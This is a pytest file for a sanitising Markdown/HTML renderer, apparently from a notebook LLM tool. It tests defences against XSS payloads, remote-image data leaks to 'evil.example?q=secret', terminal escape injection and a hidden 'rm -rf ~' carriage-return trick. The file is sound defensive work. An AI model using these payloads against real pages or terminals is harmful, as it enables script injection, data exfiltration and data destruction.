"""notebook_llm._render: sanitised Markdown/HTML for model output, streaming helpers."""

from __future__ import annotations

import random
import re
import subprocess
import sys

import pytest

from notebook_llm import _render
from notebook_llm._render import (
    Throttle,
    close_open_fences,
    escape_markdown,
    html_escape,
    plain_table_html,
    render_markdown,
    render_streaming,
)
from tests.support.html_audit import SAFE_TAGS, audit, frontend_render, visible_text

SAFE_TAGS_PLUS_SMALL = SAFE_TAGS | {"small"}

pytest.importorskip("markdown_it")
pytest.importorskip("nh3")

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><circle r=5 /></svg>',
    "[click](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) 'title')",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=q><button>go</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<style>body{display:none}</style>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<!-- <script>alert(1)</script> -->",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- item\n  <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
]


# -- render_markdown ----------------------------------------------------------


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_markdown_blocks_xss(payload: str) -> None:
    html = render_markdown(payload)
    found = audit(html)
    assert found.problems == []
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.IGNORECASE)  # in a tag, not text


def test_render_markdown_shows_raw_html_as_text() -> None:
    html = render_markdown("<script>alert(1)</script> and <img src=x onerror=alert(1)>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert audit(html).tags == ["p"]


def test_render_markdown_javascript_link_is_text_not_link() -> None:
    html = render_markdown("[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1))")
    assert "<a" not in html
    assert "[click](javascript:alert(1))" in html


def test_render_markdown_entity_obfuscated_link_is_not_a_link() -> None:
    html = render_markdown("[x](&#106;avascript:alert(1))")
    assert "<a" not in html and "href" not in html


def test_render_markdown_autolink_to_javascript_is_text() -> None:
    html = render_markdown("<javascript:alert(1)>")
    assert "<a" not in html
    assert "&lt;javascript:alert(1)&gt;" in html


def test_render_markdown_headings_lists_emphasis() -> None:
    html = render_markdown("# Title\n\n## Sub\n\n- one\n- **two**\n\n3. c\n4. d\n\n*e* ~~f~~")
    assert "<h1>Title</h1>" in html and "<h2>Sub</h2>" in html
    assert "<ul>" in html and "<li><strong>two</strong></li>" in html
    assert '<ol start="3">' in html
    assert "<em>e</em>" in html and "<s>f</s>" in html


def test_render_markdown_table_keeps_alignment_only() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | <b>2</b> |")
    assert "<table>" in html and "<th" in html
    assert 'style="text-align:right"' in html
    assert "&lt;b&gt;2&lt;/b&gt;" in html


def test_render_markdown_code_fence_escapes_and_keeps_language() -> None:
    html = render_markdown("```python\nif a < b && c > d:\n    pass\n```")
    assert '<code class="language-python">' in html
    assert "if a &lt; b &amp;&amp; c &gt; d:" in html


def test_render_markdown_code_fence_language_cannot_inject_classes() -> None:
    html = render_markdown('```python" onclick="alert(1)\nx\n```')
    assert "onclick" not in html.replace("&quot;", "")
    assert audit(html).problems == []


def test_render_markdown_inline_code() -> None:
    assert "<code>&lt;div&gt;</code>" in render_markdown("use `<div>` here")


def test_render_markdown_http_link_gets_rel() -> None:
    html = render_markdown('[docs](https://example.com/a?b=1&c=2 "Docs")')
    assert 'href="https://example.com/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer"' in html
    assert 'title="Docs"' in html


def test_render_markdown_mailto_and_autolink() -> None:
    html = render_markdown("<https://example.com> [m](mailto:a@example.com)")
    assert 'href="https://example.com"' in html
    assert 'href="mailto:a@example.com"' in html


def test_render_markdown_data_image_is_dropped_by_sanitizer() -> None:
    # markdown-it allows data:image/png, but nh3 only lets http(s)/mailto
    # through, so the image keeps its alt text and loses its source.
    html = render_markdown("![plot](data:image/png;base64,iVBORw0KGgo=)")
    assert "<img" in html and "src=" not in html and 'alt="plot"' in html


def test_render_markdown_without_markdown_it_falls_back_to_escaped_pre(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_render, "_load_markdown", lambda: None)
    html = render_markdown("# hi <script>alert(1)</script>\n[x](javascript:alert(1))")
    assert html.startswith("<pre") and html.endswith("</pre>")
    assert "&lt;script&gt;" in html and "<script" not in html
    assert "<a" not in html and "<h1>" not in html


def test_render_markdown_without_nh3_falls_back_to_escaped_pre(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_render, "_load_sanitizer", lambda: None)
    html = render_markdown("<img src=x onerror=alert(1)>")
    assert html.startswith("<pre") and "&lt;img" in html


def test_render_markdown_reuses_one_parser() -> None:
    assert _render._load_markdown() is _render._load_markdown()


def test_render_module_imports_nothing_optional() -> None:
    code = (
        "import sys; import notebook_llm._render as r; "
        "bad = {'IPython', 'markdown_it', 'nh3'} & set(sys.modules); "
        "assert not bad, bad"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# -- escape_markdown ----------------------------------------------------------


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_escape_markdown_blocks_xss_in_a_permissive_frontend(payload: str) -> None:
    rendered = frontend_render(escape_markdown(payload))
    assert audit(rendered).problems == []
    assert "<script" not in rendered.lower()


def test_escape_markdown_escapes_html_outside_code() -> None:
    out = escape_markdown("a <b>bold</b> & c -> d")
    assert out == "a &lt;b&gt;bold&lt;/b&gt; &amp; c -&gt; d"


def test_escape_markdown_keeps_code_fences_verbatim() -> None:
    text = 'Try:\n\n```html\n<div class="x">&amp; a -> b</div>\n```\n\n~~~\n<br>\n~~~\nend <i>'
    out = escape_markdown(text)
    assert '```html\n<div class="x">&amp; a -> b</div>\n```' in out
    assert "~~~\n<br>\n~~~" in out
    assert out.endswith("end &lt;i&gt;")
    assert "&lt;div" in frontend_render(out)  # the frontend shows the code literally


def test_escape_markdown_keeps_longer_fence_with_inner_fence() -> None:
    text = "````markdown\n```python\nx = '<b>'\n```\n````"
    assert escape_markdown(text) == text


def test_escape_markdown_keeps_plain_inline_code_verbatim() -> None:
    assert escape_markdown("run `pip install x` now") == "run `pip install x` now"


def test_escape_markdown_inline_code_with_html_shows_literally() -> None:
    out = escape_markdown("use `<div>` & `a && b`")
    assert "`" not in out  # rewritten as entity-encoded <code>
    assert "<code>&#60;div&#62;</code>" in out
    assert "<code>&lt;div&gt;</code>" in frontend_render(out)
    assert "<code>a &amp;&amp; b</code>" in frontend_render(out)


def test_escape_markdown_keeps_blockquotes_and_lists() -> None:
    out = escape_markdown("> quoted <x>\n\n- item\n1. first")
    rendered = frontend_render(out)
    assert "<blockquote>" in rendered and "quoted &lt;x&gt;" in rendered
    assert "<ul>" in rendered and "<ol>" in rendered


def test_escape_markdown_neutralises_dangerous_links() -> None:
    out = escape_markdown(
        "[a](javascript:alert(1)) [b](VBScript:x) [c](data:text/html,x) [r]: javascript:y"
    )
    rendered = frontend_render(out)
    assert "<a" not in rendered
    assert "[a](javascript:alert(1))" in rendered  # still visible as text


def test_escape_markdown_keeps_safe_links_and_autolinks() -> None:
    out = escape_markdown("[ok](https://example.com/?a=1&b=2) <https://example.com> ![i](x.png)")
    rendered = frontend_render(out)
    assert 'href="https://example.com/?a=1&amp;b=2"' in rendered
    assert '<a href="https://example.com">' in rendered
    assert '<a href="x.png">image: i</a>' in rendered  # an image only with remote images on


def test_escape_markdown_backslash_escapes() -> None:
    assert escape_markdown(r"\<b\> \& \*x\*") == r"&lt;b&gt; &amp; \*x\*"


def test_escape_markdown_fence_in_list_stays_code_when_list_ends() -> None:
    # Inside a list item the less-indented <script> line would end the fence;
    # escape_markdown indents it so every reading keeps it as code.
    text = "- a\n  ```\n<script>alert(1)</script>\n  ```\n<img src=x onerror=alert(1)>"
    rendered = frontend_render(escape_markdown(text))
    assert audit(rendered).problems == []
    assert "&lt;script&gt;" in rendered


def test_escape_markdown_untracked_fences_are_neutralised() -> None:
    text = "> ```\n> <img src=x onerror=alert(1)>\n> ```\n    ```\n<b>"
    out = escape_markdown(text)
    assert "\\```" in out
    assert audit(frontend_render(out)).problems == []


def test_escape_markdown_fence_like_table_header_is_neutralised() -> None:
    # markdown-it reads this as a table; marked reads a fence. Neither may win.
    text = "~~~|-|\n|-|-\n<img src=x onerror=alert(1)>"
    assert audit(frontend_render(escape_markdown(text))).problems == []


def test_escape_markdown_carriage_returns_are_line_ends() -> None:
    text = "~~~\r<b>\r~~~\r<img src=x onerror=alert(1)>"
    assert escape_markdown(text) == "~~~\n<b>\n~~~\n&lt;img src=x onerror=alert(1)&gt;"


def test_escape_markdown_code_span_cannot_hide_html_behind_a_link() -> None:
    # A renderer reads "(b`c)" as a link target, so the backtick opens no code.
    text = "[a](b`c) <img src=x onerror=alert(1)> `"
    assert audit(frontend_render(escape_markdown(text))).problems == []


def test_escape_markdown_random_documents_stay_safe() -> None:
    pieces = [
        "```", "~~~", "````", "  ```", "   ~~~", "    ```", "\t```", "- ", "> ", "1. ", "  ",
        "`", "``", "\\", "|", "x", "&#106;", "<", ">", "](", "]: ", "javascript:alert(1)",
        "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "[x](javascript:alert(1))",
        "<div>", "\n", "\n", "\n", "\n\n", "\r", "<https://a.example>", "py", "~", "|-|",
    ]  # fmt: skip
    rng = random.Random(20240611)
    for _ in range(2000):
        doc = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 30)))
        problems = audit(frontend_render(escape_markdown(doc))).problems
        assert problems == [], (doc, problems)


# -- remote images ------------------------------------------------------------

EVIL = "evil.example"
REMOTE_IMAGES = [
    "![x](https://evil.example/?q=secret)",
    "![x](http://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x](HTTPS://evil.example/a.png 'title')",
    "![x](<https://evil.example/a b.png>)",
    "![x](&#104;ttps://evil.example/a.png)",
    "![x](https&#58;//evil.example/a.png)",
    "![multi\nline alt](https://evil.example/a.png)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r][]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: https://evil.example/a.png",
    "![R]\n\n[r]: <https://evil.example/a.png> 'title'",
    "[![x](https://evil.example/a.png)](https://example.com)",
    "![x](data:image/png;base64,AAAA oops)\n\n[x]: https://evil.example/a.png",
    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
    "| a |\n|---|\n| `x | ![x](https://evil.example/a.png) ` |",
    "[a](https://example.com/`)![x](https://evil.example/a.png) `",
    "> ![x](https://evil.example/a.png)",
    "- ![x](https://evil.example/a.png)",
    "**![x](https://evil.example/a.png)**",
    '<img src="https://evil.example/a.png">',
    '<img srcset="https://evil.example/a.png 1x">',
    "<picture><source srcset='https://evil.example/a.png'></picture>",
]


@pytest.fixture
def remote_images_on():
    _render.set_remote_images(True)
    yield
    _render.set_remote_images(False)


def test_remote_images_are_off_by_default() -> None:
    assert _render.remote_images() is False


@pytest.mark.parametrize("payload", REMOTE_IMAGES)
def test_render_markdown_loads_no_remote_image(payload: str) -> None:
    found = audit(render_markdown(payload))
    assert found.images == [] and found.problems == []


@pytest.mark.parametrize("payload", REMOTE_IMAGES)
def test_render_streaming_loads_no_remote_image(payload: str) -> None:
    assert audit(render_streaming(payload)).images == []


@pytest.mark.parametrize("payload", REMOTE_IMAGES)
def test_escape_markdown_loads_no_remote_image_in_a_permissive_frontend(payload: str) -> None:
    found = audit(frontend_render(escape_markdown(payload)))
    assert found.images == [] and found.problems == []


@pytest.mark.parametrize(
    "payload",
    [
        '<img src="https://evil.example/a.png" alt="a">',
        "<img src=//evil.example/a.png>",
        "<img src=relative.png>",
        '<IMG SRC="HTTPS://evil.example/a.png">',
        '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">',
    ],
)
def test_sanitize_html_drops_remote_image_sources(payload: str) -> None:
    html = _render.sanitize_html(payload)
    assert audit(html).images == [] and EVIL not in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("![chart](https://example.com/c.png)",
         '<p><a href="https://example.com/c.png" rel="noopener noreferrer">image: chart</a></p>\n'),
        ("![](https://example.com/c.png)",
         '<p><a href="https://example.com/c.png" rel="noopener noreferrer">'
         "image: https://example.com/c.png</a></p>\n"),
        ("![a *b*][r]\n\n[r]: //example.com/c.png",
         '<p><a href="//example.com/c.png" rel="noopener noreferrer">image: a b</a></p>\n'),
        ("[![logo](https://example.com/l.png)](https://example.com)",
         '<p><a href="https://example.com" rel="noopener noreferrer">image: logo</a></p>\n'),
        ('![<b>"x"</b>](https://example.com/c.png)',
         '<p><a href="https://example.com/c.png" rel="noopener noreferrer">'
         "image: &lt;b&gt;\"x\"&lt;/b&gt;</a></p>\n"),
    ],
)
def test_render_markdown_shows_a_remote_image_as_a_link(markdown: str, expected: str) -> None:
    assert render_markdown(markdown) == expected


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("![chart](https://example.com/c.png)", "[image: chart](https://example.com/c.png)"),
        ("![r]\n\n[r]: https://example.com/c.png", "[image: r]\n\n[r]: https://example.com/c.png"),
        ("see ![a][r] and \\![b](c)", "see [image: a][r] and \\![b](c)"),
        ("`![a](b)`", "<code>&#33;&#91;a&#93;&#40;b&#41;</code>"),
        ("![p](data:image/png;base64,iVBORw0KGgo=)", "![p](data:image/png;base64,iVBORw0KGgo=)"),
        ("![p](data:image/svg+xml;base64,PHN2Zz4=)",
         "[image: p]\\(data:image/svg+xml;base64,PHN2Zz4=)"),
    ],
)
def test_escape_markdown_turns_images_into_links(markdown: str, expected: str) -> None:
    assert escape_markdown(markdown) == expected


def test_escape_markdown_keeps_raster_data_images() -> None:
    found = audit(frontend_render(escape_markdown("![p](data:image/png;base64,iVBORw0KGgo=)")))
    assert [tag for tag, _ in found.links] == ["p", "img"] and found.images == []


@pytest.mark.usefixtures("remote_images_on")
def test_remote_images_load_once_turned_on() -> None:
    assert _render.remote_images() is True
    assert render_markdown("![c](https://example.com/c.png)") == (
        '<p><img src="https://example.com/c.png" alt="c"></p>\n'
    )
    assert escape_markdown("![c](https://example.com/c.png)") == "![c](https://example.com/c.png)"
    assert _render.sanitize_html('<img src="https://example.com/c.png">') == (
        '<img src="https://example.com/c.png">'
    )
    # Script stays out either way.
    assert audit(render_markdown("![x](javascript:alert(1))")).problems == []
    assert audit(_render.sanitize_html("<img src=x onerror=alert(1)>")).problems == []


@pytest.fixture
def nh3_without_attribute_filter(monkeypatch: pytest.MonkeyPatch):
    """nh3 as it was before ``attribute_filter`` and ``filter_style_properties``."""
    import nh3

    real = nh3.clean

    def old_clean(html: str, **options: object) -> str:
        if "attribute_filter" in options or "filter_style_properties" in options:
            raise TypeError("unexpected keyword argument")
        return real(html, **options)

    monkeypatch.setattr(nh3, "clean", old_clean)
    _render._load_sanitizer.cache_clear()
    yield
    monkeypatch.undo()
    _render._load_sanitizer.cache_clear()


@pytest.mark.usefixtures("nh3_without_attribute_filter")
def test_remote_images_without_attribute_filter_in_nh3(monkeypatch: pytest.MonkeyPatch) -> None:
    assert audit(_render.sanitize_html("<img src=https://evil.example/a.png>")).images == []
    monkeypatch.setattr(_render, "_remote_images", True)
    assert "evil.example" in _render.sanitize_html("<img src=https://evil.example/a.png>")


# -- markdown_text / markdown_code / markdown_table_cell ----------------------

HOSTILE_NAMES = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "a`<img src=x onerror=alert(1)>`b",
    "``<svg onload=alert(1)>``",
    "x` <img src=x onerror=alert(1)> `y",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "a | b | <img src=x onerror=alert(1)>",
    "line\n\n<script>alert(1)</script>",
    "# heading <b>x</b>",
    "1. <i>x</i>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#106;avascript:alert(1)",
    "<javascript:alert(1)>",
    "\\<script>alert(1)\\</script>",
    "$x$ ~~y~~ **z** _w_",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
]


def _flat(text: str) -> str:
    return " ".join(re.sub(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", "", text.replace("\r", " ")).split())


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize(
    "context",
    ["a {} b", "**{}**", "| h | i |\n|---|---|\n| {} | z |", "- {}", "{}", "<small>{}</small>"],
)
def test_markdown_text_shows_the_value_as_typed(name: str, context: str) -> None:
    rendered = frontend_render(context.format(_render.markdown_text(name)))
    found = audit(rendered, allowed=SAFE_TAGS_PLUS_SMALL)
    assert found.problems == [] and found.images == []
    assert not {"a", "img", "code", "em", "s", "h1"} & set(found.tags)
    assert _flat(name) in visible_text(rendered)
    if context.startswith("|"):
        assert rendered.count("<td>") == 2  # the value stays in its cell


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("context", ["- {}", "| h | i |\n|---|---|\n| {} | z |", "a {}, {} b"])
def test_markdown_code_shows_the_value_as_code(name: str, context: str) -> None:
    rendered = frontend_render(context.format(*[_render.markdown_code(name)] * context.count("{}")))
    found = audit(rendered)
    assert found.problems == [] and found.images == []
    assert set(found.tags) <= {"p", "ul", "li", "code", "table", "thead", "tbody", "tr", "th", "td"}
    codes = re.findall(r"<code>(.*?)</code>", rendered, re.S)
    assert codes and all(visible_text(code) == _flat(name) for code in codes)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("llamacpp:stories260k", "`llamacpp:stories260k`"),
        ('get_weather({"city": "Paris"})', '`get_weather({"city": "Paris"})`'),
        ("a`b", "<code>a&#96;b</code>"),
        ("f(<x>)", "<code>f&#40;&#60;x&#62;&#41;</code>"),
        ("a|b", "<code>a&#124;b</code>"),
        ("two\nlines", "`two lines`"),
        ("", "<code></code>"),
    ],
)
def test_markdown_code_golden(value: str, expected: str) -> None:
    assert _render.markdown_code(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("gpt-4o-mini", "gpt-4o-mini"),
        ("offline:echo · 3 in / 3 out · free", "offline:echo · 3 in / 3 out · free"),
        ("$0.000123", "\\$0.000123"),
        ("<b>x</b> & y", "&lt;b&gt;x&lt;/b&gt; &amp; y"),
        ("a_b*c`d|e[f]~g\\h", "a\\_b\\*c\\`d\\|e\\[f\\]\\~g\\\\h"),
        ("# h", "\\# h"),
        ("1. x", "1\\. x"),
        ("two\n lines\r\x1b[31m", "two lines \\[31m"),
    ],
)
def test_markdown_text_golden(value: str, expected: str) -> None:
    assert _render.markdown_text(value) == expected


@pytest.mark.parametrize("text", [*HOSTILE_NAMES, *REMOTE_IMAGES, *XSS_PAYLOADS])
def test_markdown_table_cell_stays_in_its_cell(text: str) -> None:
    row = f"| h | i |\n|---|---|\n| {_render.markdown_table_cell(text)} | z |"
    rendered = frontend_render(row)
    found = audit(rendered)
    assert found.problems == [] and found.images == []
    assert rendered.count("<td>") == 2 and "<td>z</td>" in rendered


def test_markdown_table_cell_keeps_inline_formatting() -> None:
    assert _render.markdown_table_cell("**bold** `x`\nnext | <b>") == (
        "**bold** `x` next &#124; &lt;b&gt;"
    )


# -- terminal_text ------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain\ttext\nnext", "plain\ttext\nnext"),
        ("\x1b[2J\x1b[31mred", "␛[2J␛[31mred"),
        ("\x1b]0;pwned\x07title", "␛]0;pwned␇title"),
        ("\x1b]8;;https://evil.example\x1b\\link", "␛]8;;https://evil.example␛\\link"),
        ("safe\rrm -rf ~", "saferm -rf ~"),
        ("a\r\nb", "a\nb"),
        ("\x9b31mC1 \x90P\x9c", "\ufffd31mC1 \ufffdP\ufffd"),
        ("bell\x07 back\x08 del\x7f", "bell␇ back␈ del␡"),
        ("unicode é ✓ 中", "unicode é ✓ 中"),
    ],
)
def test_terminal_text_neutralises_control_characters(text: str, expected: str) -> None:
    assert _render.terminal_text(text) == expected


def test_terminal_text_works_piece_by_piece() -> None:
    text = "a\x1b]0;t\x07b\r\nc\x9b1m"
    pieces = [text[i : i + 2] for i in range(0, len(text), 2)]
    assert "".join(_render.terminal_text(p) for p in pieces) == _render.terminal_text(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", _render.terminal_text(text))


# -- close_open_fences / render_streaming -------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("no code here", "no code here"),
        ("```py\nx = 1\n```\n", "```py\nx = 1\n```\n"),
        ("```py\nx = 1", "```py\nx = 1\n```\n"),
        ("```py\nx = 1\n", "```py\nx = 1\n```\n"),
        ("~~~~\n```\ncode", "~~~~\n```\ncode\n~~~~\n"),
        ("````\n```\nstill open", "````\n```\nstill open\n````\n"),
        ("```a\n```\n```b\nopen", "```a\n```\n```b\nopen\n```\n"),
        ("- item\n  ```\n  code", "- item\n  ```\n  code\n  ```\n"),
        ("```", "```\n```\n"),
        ("```py\nx\n``", "```py\nx\n```"),  # closer arriving: completed, not shown
        ("```py\nx\n`", "```py\nx\n```"),
        ("text ``", "text ``"),  # a partial opener outside code is left alone
        ("    ```\nindented code", "    ```\nindented code"),  # not a fence
        ("``` a`b\n<x>", "``` a`b\n<x>"),  # backtick in info: not a fence
    ],
)
def test_close_open_fences(text: str, expected: str) -> None:
    assert close_open_fences(text) == expected


def test_render_streaming_shows_partial_code_as_code() -> None:
    html = render_streaming("Here:\n```python\nif a < b:\n    pri")
    assert '<pre><code class="language-python">if a &lt; b:\n    pri' in html


def test_render_streaming_is_sanitised() -> None:
    html = render_streaming("<img src=x onerror=alert(1)>\n```\n<script>")
    assert audit(html).problems == []


# -- html_escape / plain_table_html -------------------------------------------


def test_html_escape_escapes_quotes_and_accepts_objects() -> None:
    assert html_escape("<a href=\"x\">'&'</a>") == (
        "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/a&gt;"
    )
    assert html_escape(3.5) == "3.5"


def test_plain_table_html_escapes_every_cell() -> None:
    html = plain_table_html(["model", "<b>cost</b>"], [["<script>x</script>", 0.5], [None, "a&b"]])
    assert html == (
        "<table><thead><tr><th>model</th><th>&lt;b&gt;cost&lt;/b&gt;</th></tr></thead>"
        "<tbody><tr><td>&lt;script&gt;x&lt;/script&gt;</td><td>0.5</td></tr>"
        "<tr><td></td><td>a&amp;b</td></tr></tbody></table>"
    )
    assert audit(html).tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
                                "tr", "td", "td"]  # fmt: skip


# -- Throttle -----------------------------------------------------------------


def test_throttle_limits_updates_at_15_per_second() -> None:
    throttle = Throttle()
    allowed = [t for t in (i * 0.001 for i in range(100)) if throttle.ready(now=t)]
    assert allowed[0] == 0.0
    assert len(allowed) <= 2


def test_throttle_allows_one_update_per_interval_over_a_second() -> None:
    throttle = Throttle(max_per_second=15)
    updates = sum(throttle.ready(now=i * 0.001) for i in range(1000))
    assert 14 <= updates <= 15


def test_throttle_ready_after_interval_and_force_records() -> None:
    throttle = Throttle(max_per_second=10)
    assert throttle.ready(now=100.0)
    assert not throttle.ready(now=100.05)
    assert throttle.ready(now=100.1)
    assert throttle.force(now=100.12) is True
    assert not throttle.ready(now=100.15)
    assert throttle.ready(now=100.25)


def test_throttle_uses_monotonic_clock_by_default() -> None:
    throttle = Throttle(max_per_second=1)
    assert throttle.ready()
    assert not throttle.ready()
    assert throttle.force()


@pytest.mark.parametrize("rate", [0, -1.0])
def test_throttle_rejects_non_positive_rate(rate: float) -> None:
    with pytest.raises(ValueError, match="positive"):
        Throttle(max_per_second=rate)


# -- -f html: a sandboxed page ------------------------------------------------------


def _framed_page(markup: str) -> str:
    import html

    found = re.fullmatch(r'<iframe sandbox="" srcdoc="([^"]*)"[^>]*></iframe>', markup)
    assert found is not None, markup
    return html.unescape(found.group(1))


def test_sandboxed_html_keeps_markup_and_drops_what_runs_or_navigates() -> None:
    page = _framed_page(_render.sandboxed_html(
        '<table><tr><td style="color:red">1</td></tr></table><svg viewBox="0 0 2 2">'
        '<circle cx="1" cy="1" r="1" fill="red"/></svg><style>td{padding:2px}</style>'
        '<script>alert(1)</script><img src=x onerror=alert(2)><iframe src="//e.example">'
        '</iframe><meta http-equiv="refresh" content="0;url=//e.example"><form action="//e">'
        '<base href="//e.example/">"quote" &amp; </iframe><script>alert(3)</script>'
    ))
    assert '<td style="color:red">1</td>' in page and "<circle" in page
    assert "<style>td{padding:2px}</style>" in page
    body = page.split("<body>", 1)[1]
    for gone in ("<script", "onerror", "<iframe", "refresh", "<form", "<base", "alert(3)"):
        assert gone not in body, gone


def test_sandboxed_html_policy_blocks_fetches_unless_images_are_allowed() -> None:
    page = _framed_page(_render.sandboxed_html('<img src="https://e.example/a.png">'))
    assert "default-src 'none'" in page and "img-src data:;" in page


def test_sandboxed_html_policy_lets_remote_images_in_when_allowed(remote_images_on) -> None:
    page = _framed_page(_render.sandboxed_html('<img src="https://e.example/a.png">'))
    assert "img-src data: http: https:;" in page and 'src="https://e.example/a.png"' in page


def test_markdown_keeps_single_line_breaks() -> None:
    html = render_markdown("Roses are red,\nviolets are blue.\n\n- one\n- two")
    assert html.startswith("<p>Roses are red,<br>\nviolets are blue.</p>"), html
    assert "<li>one</li>" in html
